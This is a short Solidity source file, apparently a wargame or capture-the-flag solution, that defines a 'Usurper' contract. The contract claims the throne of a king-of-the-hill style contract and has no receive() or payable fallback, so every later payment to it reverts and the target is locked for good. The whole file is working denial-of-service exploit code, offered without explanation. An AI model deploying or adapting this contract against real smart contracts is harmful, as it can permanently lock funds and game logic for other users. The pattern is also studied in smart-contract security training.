// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// @title What the usurper needs to know about the throne.
interface IKing {
    function claim() external payable;
}

/// @title Takes the crown and refuses every payment, so nobody can take it back.
contract Usurper {
    IKing private immutable _king;

    constructor(address king) {
        _king = IKing(king);
    }

    /// @notice Claim the throne with msg.value.
    function attack() external payable {
        _king.claim{value: msg.value}();
    }

    // No receive() and no payable fallback: any Ether sent here makes the sender revert.
}
